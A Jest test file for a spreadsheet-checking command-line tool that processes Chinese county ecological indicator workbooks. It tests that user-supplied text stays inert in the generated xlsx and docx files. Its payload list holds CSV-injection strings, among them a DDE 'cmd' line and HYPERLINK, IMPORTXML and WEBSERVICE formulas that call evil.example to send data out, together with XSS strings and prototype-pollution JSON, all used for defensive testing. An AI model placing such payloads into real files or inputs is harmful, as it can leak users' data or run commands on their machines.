import { beforeAll, describe, expect, test } from "@jest/globals";
import { ecogap, Folder } from "../cli/command-line";
import { sheetsFile } from "../cli/sheets-file";
import { opened } from "../xlsx/workbooks";
import { partsOf } from "../xlsx/zip-file";

/** Texts that spreadsheet programs are known to take for formulas or commands (OWASP, CSV injection), and markup. */
const PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/"&A1,"看")',
  '=IMPORTXML("http://evil.example/","//a")',
  '";=1+1',
  "'=1+1",
  '"&WEBSERVICE("http://evil.example/")&"',
  "<script>alert(1)</script>",
  "javascript:alert(1)",
] as const;

const HEADER = [
  "序号",
  "指标名称",
  "单位",
  "指标值",
  "属性",
  "2019年",
  "2020年（现状值）",
  "达标情况",
  "牵头部门",
];

/** A workbook in which a text stands wherever a text of the user's is taken over into what we write. */
function bookWith(text: string): Uint8Array {
  const row = (no: number, name: string, value: number): readonly (string | number)[] => [
    no,
    name,
    "%",
    "≥85",
    "约束性",
    90,
    value,
    "",
    text,
  ];
  const name = `某${text.replace(/[:\\/?*[\]\t\r]/gu, "").slice(0, 24)}`;
  return sheetsFile({
    [name]: [
      [`${text}甲县生态文明建设指标`],
      HEADER,
      row(1, `${text}处理率`, 60),
      row(2, "乙处理率", 70),
      [text],
    ],
    乙县: [["乙县生态文明建设指标"], HEADER, row(1, `${text}处理率`, 50), row(2, "乙处理率", 90)],
    措施库: [
      ["指标", "措施", "牵头部门"],
      ["乙处理率", text, text],
    ],
    文本模板: [
      ["情形", "文字"],
      ["数值未达标", `${text}{指标}`],
    ],
    任务分解表: [
      ["序号", "工作任务", "对应指标", "目标值", "牵头部门"],
      [1, text, "乙处理率", "≥85%", text],
    ],
  });
}

/** A formula without its literals, the names of its sheets and the places of its cells. */
function shape(formula: string): string {
  return formula
    .replace(/"(?:[^"]|"")*"|'(?:[^']|'')*'/gu, (quoted) => (quoted.startsWith('"') ? '""' : "S"))
    .replace(/\$?[A-Z]+\$?\d+/gu, "A1");
}

/** What the command line writes of a workbook with this text: the checked one, and the roll-up of its regions. */
async function written(text: string): Promise<Folder> {
  const folder = new Folder();
  const input = folder.put("in.xlsx", bookWith(text));
  const outputs = ["--out", folder.at("out.xlsx"), "--rollup", folder.at("rollup.xlsx")];
  const checked = await ecogap("check", input, "--materials", ...outputs, "--quiet");
  expect(checked).toEqual({ code: 0, out: "", err: "" });
  expect((await ecogap("report", input, "--docx", folder.at("out.docx"), "--quiet")).code).toBe(0);
  return folder;
}

async function formulasIn(bytes: Uint8Array): Promise<readonly string[]> {
  const { sheets } = await (await opened(bytes)).read();
  return sheets.flatMap(({ rows }) =>
    rows.flatMap((cells) => cells?.flatMap((cell) => cell?.formula ?? []) ?? []),
  );
}

function external(bytes: Uint8Array): readonly string[] {
  return Object.entries(partsOf(bytes))
    .filter(([name]) => name.endsWith(".rels"))
    .filter(([, xml]) => /TargetMode\s*=\s*"External"/u.test(xml))
    .map(([name]) => name);
}

describe("A text of the workbook stays text in all that is written:", () => {
  const shapes = new Set<string>();

  beforeAll(async () => {
    const harmless = await written("某");
    for (const name of ["out.xlsx", "rollup.xlsx"])
      for (const formula of await formulasIn(harmless.bytes(name))) shapes.add(shape(formula));
  });

  test.each(PAYLOADS)("%j", async (text) => {
    const folder = await written(text);
    for (const name of ["out.xlsx", "rollup.xlsx"]) {
      const formulas = await formulasIn(folder.bytes(name));
      expect(formulas.length).toBeGreaterThan(0);
      expect(formulas.map(shape).filter((one) => !shapes.has(one))).toEqual([]);
      for (const formula of formulas)
        for (const [, target] of formula.matchAll(/^HYPERLINK\("([^"]*)/gu))
          expect(target).toMatch(/^(?:#|\[?in\.xlsx)/u);
      expect(external(folder.bytes(name))).toEqual([]);
    }
    expect(external(folder.bytes("out.docx"))).toEqual([]);
    expect(partsOf(folder.bytes("out.docx"))["word/document.xml"]).not.toMatch(
      /<script|w:instrText[^>]*>[^<]*(?:DDE|evil)/u,
    );
  });
});

describe("A file of the user's own reaches no prototype:", () => {
  const polluting = '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}';

  test.each([
    ["--profile", polluting],
    ["--measures", `{"measures": [], "__proto__": {"polluted": "yes"}}`],
    ["--standard", polluting],
  ])("%s", async (option, text) => {
    const folder = new Folder();
    const input = folder.put("in.xlsx", bookWith("甲"));
    await ecogap("check", input, option, folder.put("own.json", text), "--quiet");
    expect(Reflect.get({}, "polluted")).toBeUndefined();
  });
});
